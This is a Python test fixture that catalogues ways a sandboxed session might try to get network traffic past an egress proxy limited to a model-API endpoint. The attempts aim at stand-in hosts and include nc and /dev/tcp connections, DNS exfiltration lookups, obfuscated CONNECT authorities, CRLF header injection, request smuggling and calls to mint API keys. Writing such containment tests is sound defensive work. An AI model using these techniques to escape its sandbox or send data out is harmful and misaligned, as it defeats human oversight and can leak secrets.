"""What a session may try to get out, as a list: each attempt with the lines that it has to leave.

Names are of `.test` and `.invalid`, and the one address is that of a container of the test: even a
build that lets everything pass reaches nobody else.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

from recorder.session.harness import PLACEHOLDER_KEY

HOST = "api.anthropic.com"
OPEN = f"CONNECT {HOST}:443 HTTP/1.1\r\nHost: {HOST}:443\r\n\r\n".encode()


@dataclass(frozen=True)
class Attempt:
    """``rules``: those of the lines that it leaves, in their order; empty where it meets nobody."""

    name: str
    does: Mapping[str, Any]
    rules: tuple[str, ...] = ()
    reaches: str = field(default="nobody")

    @property
    def told(self) -> dict[str, Any]:
        return {"name": self.name, **self.does}


def _coded(*pieces: bytes) -> list[str]:
    return [base64.b64encode(piece).decode() for piece in pieces]


def shell(name: str, command: str, *rules: str) -> Attempt:
    return Attempt(name, {"shell": command}, rules)


def raw(name: str, data: bytes, *rules: str, to: str = "forwarder", end: bool = True) -> Attempt:
    return Attempt(name, {"bytes": _coded(data), "to": to, "end": end}, rules)


def connect(authority: bytes, rule: str, *headers: bytes) -> Attempt:
    lines = b"".join(header + b"\r\n" for header in headers)
    name = f"CONNECT {authority.decode('latin-1')} {lines.decode('latin-1')}".strip()
    return raw(name, b"CONNECT " + authority + b" HTTP/1.1\r\n" + lines + b"\r\n", rule)


def tunnel(
    name: str, data: bytes, *rules: str, server_name: str | None = HOST, trust: bool = True
) -> Attempt:
    tls = {"name": server_name, "trust": trust}
    return Attempt(name, {"bytes": _coded(OPEN, data), "to": "forwarder", "tls": tls}, rules)


def request(
    *headers: tuple[str, str],
    line: str = "POST /v1/messages?beta=true HTTP/1.1",
    without: Sequence[str] = (),
    body: bytes | None = None,
    **members: Any,
) -> bytes:
    if body is None:
        document = {"model": "claude-sonnet-4-5", "max_tokens": 5, "messages": [], **members}
        body = json.dumps(document).encode()
    usual = [
        ("Host", HOST),
        ("x-api-key", PLACEHOLDER_KEY),
        ("Content-Type", "application/json"),
        ("Content-Length", str(len(body))),
    ]
    kept = [pair for pair in usual if pair[0].lower() not in without]
    lines = [line, *(f"{name}: {value}" for name, value in [*kept, *headers])]
    return "\r\n".join(lines).encode("latin-1") + b"\r\n\r\n" + body


def _told(**block: Any) -> dict[str, Any]:
    return {"messages": [{"role": "user", "content": [block]}]}


def direct(sink: str) -> Iterator[Attempt]:
    """Past the proxy: there is no route, so nobody is met."""
    python = "python3 -I -c"
    yield shell("curl, no proxy, a name", "curl -sS --noproxy '*' -m 3 https://sink.test/")
    yield shell("curl, no proxy, an address", f"curl -sS --noproxy '*' -m 3 http://{sink}/")
    yield shell(
        "curl, the proxy's variables unset", f"env -i PATH=$PATH curl -sS -m 3 http://{sink}:8080/"
    )
    yield shell("curl, by way of lo", f"curl -sS --noproxy '*' --interface lo -m 3 http://{sink}/")
    yield shell(
        "curl, a resolver of its own",
        f"curl -sS --noproxy '*' -m 3 --resolve sink.test:443:{sink} https://sink.test/",
    )
    yield shell("curl, tftp", f"curl -sS --noproxy '*' -m 3 tftp://{sink}/x")
    yield shell("curl, telnet", f"curl -sS --noproxy '*' -m 3 telnet://{sink}:23")
    yield shell("curl, HTTP/3", f"curl -sS --noproxy '*' -m 3 --http3-only https://{sink}/")
    yield shell("openssl", f"openssl s_client -connect {sink}:443 -servername {HOST}")
    yield shell("openssl, datagrams", f"openssl s_client -dtls -connect {sink}:443")
    yield shell("nc", f"nc -w 2 {sink} 443")
    yield shell("nc, datagrams", f"echo x | nc -u -w 1 {sink} 53")
    yield shell("bash, tcp", f"echo x > /dev/tcp/{sink}/80")
    yield shell("bash, udp", f"echo x > /dev/udp/{sink}/53")
    yield shell(
        "perl",
        f'perl -MIO::Socket::INET -e \'IO::Socket::INET->new(PeerAddr=>"{sink}:25",'
        "Timeout=>2) or die $!'",
    )
    yield shell("git, its own protocol", "git clone -q git://sink.test/x.git /tmp/g1")
    yield shell("git, its own protocol, an address", f"git clone -q git://{sink}/x.git /tmp/g2")
    yield shell(
        "git, without its proxy",
        f"git -c http.proxy= -c https.proxy= clone -q https://{sink}/x.git /tmp/g3",
    )
    yield shell("dig", "dig +time=1 +tries=1 secret.sink.test")
    yield shell("dig, a server", f"dig +time=1 +tries=1 @{sink} secret.sink.test")
    yield shell("dig, a server, tcp", f"dig +tcp +time=1 +tries=1 @{sink} secret.sink.test")
    yield shell("nslookup", f"nslookup -timeout=1 -retry=1 secret.sink.test {sink}")
    yield shell("host", f"host -W 1 secret.sink.test {sink}")
    yield shell("getent", "getent ahosts secret.sink.test")
    yield shell("python, a look-up", f"{python} \"import socket; socket.getaddrinfo('a.test', 1)\"")
    yield shell(
        "python, tcp", f"{python} \"import socket; socket.create_connection(('{sink}', 443), 2)\""
    )
    yield shell(
        "python, mapped",
        f"{python} \"import socket; socket.create_connection(('::ffff:{sink}', 443), 2)\"",
    )
    yield shell(
        "python, fast open",
        f'{python} "import socket; s=socket.socket(); '
        f"s.sendto(b'x', 0x20000000, ('{sink}', 443))\"",
    )
    yield shell(
        "python, many paths",
        f'{python} "import socket; '
        f"s=socket.socket(2, 1, 262); s.settimeout(2); s.connect(('{sink}', 443))\"",
    )
    yield shell(
        "python, streams of messages",
        f'{python} "import socket; '
        f"s=socket.socket(2, 1, 132); s.settimeout(2); s.connect(('{sink}', 443))\"",
    )
    yield shell(
        "python, pings",
        f'{python} "import socket; s=socket.socket(2, 2, 1); '
        f"s.sendto(b'\\x08\\0\\0\\0\\0\\0\\0\\0', ('{sink}', 0))\"",
    )
    yield shell(
        "python, raw",
        f"{python} \"import socket; s=socket.socket(2, 3, 255); s.sendto(b'x', ('{sink}', 0))\"",
    )
    yield shell(
        "python, frames",
        f'{python} "import socket; '
        "s=socket.socket(17, 3, 0x0300); s.bind(('lo', 0)); s.send(b'x' * 60)\"",
    )
    yield shell("an interface", "ip link add d0 type dummy && ip link set d0 up")
    yield shell("a route", f"ip route add {sink}/32 dev lo && nc -w 1 {sink} 443")
    yield shell("a tunnel device", f"{python} \"open('/dev/net/tun', 'r+b')\"")
    yield shell("a namespace of its own", f"unshare -Urn nc -w 1 {sink} 443")
    yield shell(
        "a proxy of its own, without a way out",
        f"{python} \"import socket as s; l=s.create_server(('127.0.0.1', 0)); "
        f"s.create_connection(('{sink}', 443), 2)\"",
    )


def by_connect(sink: str) -> Iterator[Attempt]:
    """CONNECT, in every spelling of a host."""
    number = int.from_bytes(bytes(map(int, sink.split("."))), "big")
    parts = [int(part) for part in sink.split(".")]
    octal = ".".join(f"0{part:o}" for part in parts)
    host, address, port = "connect-host", "connect-address", "connect-port"
    malformed = "head-malformed"
    six = f"{number >> 16:x}:{number & 0xFFFF:x}"
    for authority, rule in (
        ("sink.test:443", host),
        ("SINK.TEST:443", host),
        (f"{HOST}.sink.test:443", host),
        (f"sink.test.{HOST}:443", host),
        (f"{HOST.upper()}:443", host),
        (f"{HOST}.:443", host),
        (f"user@{HOST}:443", malformed),
        (f"{HOST}@sink.test:443", malformed),
        (f"{HOST}#sink.test:443", malformed),
        (f"{HOST}%00.sink.test:443", malformed),
        ("xn--api-nothropic-test.test:443", malformed),
        ("localhost:443", host),
        ("canary.invalid:443", host),
        (f"{sink}:443", address),
        (f"{number}:443", address),
        (f"0x{number:x}:443", address),
        (f"{octal}:443", address),
        (f"{parts[0]}.{number & 0xFFFFFF}:443", address),
        (f"[::ffff:{sink}]:443", address),
        (f"[::{six}]:443", address),
        (f"[2002:{six}::]:443", address),
        (f"[64:ff9b::{sink}]:443", address),
        ("127.0.0.1:443", address),
        ("0:443", address),
        (f"{HOST}:22", port),
        (f"{HOST}:80", port),
        (f"{HOST}:8443", port),
        ("sink.test:53", host),
    ):
        yield connect(authority.encode(), rule)
    yield connect(f"{HOST}:443".encode(), "connect-host-header", b"Host: sink.test:443")
    yield connect(b"sink.test:443", host, f"Host: {HOST}:443".encode())
    yield connect(f"{HOST}\0.sink.test:443".encode(), "head-control-character")
    yield connect(b"sink.test\0." + HOST.encode() + b":443", "head-control-character")
    yield connect("\u0251pi.anthropic.com:443".encode(), "head-control-character")
    yield connect(b"sink.test:443\r\nX: y", "head-malformed")


def by_proxy(sink: str) -> Iterator[Attempt]:
    """The tools of the image by way of the forwarder, and what is no CONNECT."""
    proxy = "127.0.0.1:3128"
    yield shell("curl", "curl -sS -m 5 https://sink.test/", "connect-host")
    yield shell("curl, an address", f"curl -sS -m 5 https://{sink}/", "connect-address")
    yield shell("curl, in the clear", "curl -sS -m 5 http://sink.test/", "plain-http")
    yield shell("curl, the provider in the clear", f"curl -sS -m 5 http://{HOST}/", "plain-http")
    yield shell("curl, another port", f"curl -sS -m 5 https://{HOST}:8443/", "connect-port")
    yield shell(
        "curl, ftp through the proxy",
        f"curl -sS -m 5 -x http://{proxy} ftp://sink.test/",
        "head-malformed",
    )
    yield shell(
        "curl, DNS over HTTPS",
        f"curl -4 -sS --noproxy sink.test -m 3 --doh-url https://{sink}/dns https://sink.test/",
        "connect-address",
    )
    yield shell(
        "curl, a tunnel for telnet",
        f"curl -sS -m 5 -p -x http://{proxy} telnet://sink.test:23",
        "connect-host",
    )
    yield shell(
        "curl, SOCKS at the forwarder",
        f"curl -sS -m 5 -x socks5h://{proxy} https://sink.test/",
        "head-control-character",
    )
    yield shell(
        "curl, credentials for the proxy",
        f"curl -sS -m 5 -x http://a:b@{proxy} https://sink.test/",
        "connect-host",
    )
    yield shell(
        "curl, the provider's name at another address",
        f"curl -sS -m 5 --connect-to {HOST}:443:{sink}:443 https://{HOST}/",
        "connect-address",
    )
    yield shell("curl, no trust", f"curl -sS -k -m 5 https://{HOST}/v1/files", "path")
    yield shell(
        "curl, HTTP/2 in the tunnel", f"curl -sS -k -m 5 --http2 https://{HOST}/v1/files", "path"
    )
    yield shell(
        "curl, HTTP/2 known before",
        "curl -sS -k -m 5 --http2-prior-knowledge http://sink.test/",
        "plain-http",
    )
    yield shell("git", "git clone -q https://sink.test/x.git /tmp/g4", "connect-host")
    yield shell("git, in the clear", "git clone -q http://sink.test/x.git /tmp/g5", "plain-http")
    yield shell(
        "openssl through the proxy",
        f"openssl s_client -proxy {proxy} -connect sink.test:443",
        "connect-host",
    )
    yield shell(
        "openssl, another name inside",
        f"openssl s_client -proxy {proxy} -connect {HOST}:443 -servername sink.test",
        "hello-name",
    )
    yield shell(
        "openssl, no name inside",
        f"openssl s_client -proxy {proxy} -connect {HOST}:443 -noservername",
        "hello-name-absent",
    )
    yield shell(
        "openssl, a protocol within",
        f"openssl s_client -proxy {proxy} -connect {HOST}:443 -starttls xmpp",
        "not-tls",
    )
    yield shell(
        "python, urllib",
        "python3 -I -c \"import urllib.request as u; u.urlopen('http://sink.test/', timeout=5)\"",
        "plain-http",
    )
    yield shell(
        "a relay of its own before the forwarder",
        'python3 -I -c "import socket as s, threading as t; '
        "l=s.create_server(('127.0.0.1', 4129)); "
        "t.Thread(target=lambda: (lambda c, d: (d.sendall(c.recv(999)), "
        "c.sendall(d.recv(999))))(l.accept()[0], s.create_connection(('127.0.0.1', 3128)))"
        ", daemon=True).start(); c=s.create_connection(('127.0.0.1', 4129)); "
        "c.sendall(b'CONNECT sink.test:443 HTTP/1.1\\r\\n\\r\\n'); print(c.recv(999))\"",
        "connect-host",
    )
    host = b"Host: sink.test\r\n\r\n"
    for name, data, rule in (
        ("an absolute target", b"GET http://sink.test/ HTTP/1.1\r\n" + host, "plain-http"),
        ("https without a tunnel", b"GET https://sink.test/ HTTP/1.1\r\n" + host, "plain-http"),
        ("the path alone", b"GET / HTTP/1.1\r\n" + host, "plain-http"),
        ("a WebSocket", b"GET http://sink.test/ HTTP/1.1\r\nUpgrade: websocket\r\n"
         b"Connection: upgrade\r\n" + host, "plain-http"),
        ("the beginning of HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "head-malformed"),
        ("SSH", b"SSH-2.0-x\r\n\r\n", "head-malformed"),
        ("TLS at the forwarder", b"\x16\x03\x01\0\x05hello", "head-control-character"),
        ("any bytes", bytes(range(256)), "head-control-character"),
        ("nothing", b"", "nothing-asked"),
        ("a look-up in DNS", b"\0\x1d\x12\x34\1\0\0\1\0\0\0\0\0\0\4sink\4test\0\0\1\0\1",
         "head-control-character"),
    ):  # fmt: skip
        yield raw(name, data, rule)
    yield raw(
        "the socket itself", b"CONNECT sink.test:443 HTTP/1.1\r\n\r\n", "connect-host", to="socket"
    )
    yield raw("bytes that are no TLS in a tunnel", OPEN + b"GET / HTTP/1.1\r\n\r\n", "not-tls")
    yield raw("SSH in a tunnel", OPEN + b"SSH-2.0-x\r\n", "not-tls")


def by_tunnel() -> Iterator[Attempt]:
    """Inside a tunnel to the provider: another host, another question, or one for the provider."""
    image = {"type": "image", "source": {"type": "url", "url": "https://sink.test/x"}}
    file = {"type": "document", "source": {"type": "file", "file_id": "file_1"}}
    yield tunnel("another name", b"", "hello-name", server_name="sink.test", trust=False)
    yield tunnel("no name", b"", "hello-name-absent", server_name=None, trust=False)
    for name, data, rule in (
        ("Host", request(("Host", "sink.test"), without=["host"]), "host-header"),
        ("two Hosts", request(("Host", "sink.test")), "host-header"),
        ("a target with a host", request(line="POST https://sink.test/v1/messages HTTP/1.1"),
         "absolute-target"),
        ("CONNECT within", b"CONNECT sink.test:443 HTTP/1.1\r\nHost: sink.test:443\r\n\r\n",
         "head-malformed"),
        ("files", request(line="POST /v1/files HTTP/1.1"), "path"),
        ("batches", request(line="POST /v1/messages/batches HTTP/1.1"), "path"),
        ("the organisation", request(line="GET /v1/organizations/me HTTP/1.1"), "path"),
        ("a key of its own", request(line="POST /api/oauth/claude_cli/create_api_key HTTP/1.1"),
         "path"),
        ("a path that climbs", request(line="POST /v1/messages/../files HTTP/1.1"), "path"),
        ("a path that is coded", request(line="POST /v1/%6dessages HTTP/1.1"), "path"),
        ("another method", request(line="DELETE /v1/messages HTTP/1.1"), "method"),
        ("another query", request(line="POST /v1/messages?beta=true&to=sink.test HTTP/1.1"),
         "query"),
        ("HTTP/1.0", request(line="POST /v1/messages HTTP/1.0"), "version"),
        ("an upgrade", request(("Upgrade", "h2c"), ("Connection", "upgrade")), "upgrade"),
        ("a foreign key", request(("x-api-key", "sk-foreign"), without=["x-api-key"]),
         "credential-foreign"),
        ("a foreign bearer beside", request(("Authorization", "Bearer foreign")),
         "credential-foreign"),
        ("no credential", request(without=["x-api-key"]), "credential-absent"),
        ("the files' beta", request(("anthropic-beta", "files-api-2025-04-14")), "beta"),
        ("chunks", request(("Transfer-Encoding", "chunked"), without=["content-length"],
                           body=b"0\r\n\r\n"), "body-chunked"),
        ("chunks and a length", request(("Transfer-Encoding", "chunked")), "head-malformed"),
        ("two lengths", request(("Content-Length", "7")), "head-malformed"),
        ("compressed", request(("Content-Encoding", "gzip")), "body-compressed"),
        ("an endless body", request(("Content-Length", "999999999999"),
                                    without=["content-length"]), "body-too-long"),
        ("a bare LF", request(("X-A", "b\nHost: sink.test")), "head-control-character"),
        ("a bare CR", request(("X-A", "b\rHost: sink.test")), "head-control-character"),
        ("a null", request(("X-A", "b\0c")), "head-control-character"),
        ("a folded header", request(("X-A", "b\r\n Host: sink.test")), "head-folded"),
        ("a space before a colon", request(("Host ", "sink.test")), "head-malformed"),
        ("150 headers", request(*[("X-A", "b")] * 150), "head-too-many-headers"),
        ("no JSON", request(body=b"tools: web_search"), "body-not-json"),
        ("a list", request(body=b"[]"), "body-not-json"),
        ("a key twice", request(body=b'{"model":"claude-1","model":"claude-1"}'),
         "body-duplicate-key"),
        ("a key in another case", request(tools=[{"Type": "web_search_20250305"}]),
         "body-ambiguous-key"),
        ("web search", request(tools=[{"type": "web_search_20250305", "name": "web_search"}]),
         "server-tool"),
        ("web fetch", request(tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}]),
         "server-tool"),
        ("code at the provider", request(tools=[{"type": "code_execution_20250825"}]),
         "server-tool"),
        ("MCP tools", request(tools=[{"type": "mcp_toolset"}]), "server-tool"),
        ("MCP servers", request(mcp_servers=[{"url": "https://sink.test"}]), "body-mcp-servers"),
        ("a container", request(container="c"), "body-container"),
        ("an image by its address", request(**_told(**image)), "remote-source"),
        ("an image by its address in a result",
         request(**_told(type="tool_result", tool_use_id="t", content=[image])), "remote-source"),
        ("a file at the provider", request(**_told(**file)), "remote-source"),
        ("an upload", request(**_told(type="container_upload", file_id="f")), "remote-source"),
        ("another model", request(model="gpt-5"), "model"),
        ("a service tier", request(service_tier="priority"), "service-tier"),
        ("another key", request(webhook="https://sink.test"), "body-key"),
        ("too many tokens", request(max_tokens=1_000_000), "max-tokens"),
    ):  # fmt: skip
        yield tunnel(f"in the tunnel: {name}", data, rule)


def attempts(sink: str) -> tuple[Attempt, ...]:
    """All of them; ``sink`` is the address of the container that owns the names."""
    return (*direct(sink), *by_connect(sink), *by_proxy(sink), *by_tunnel())
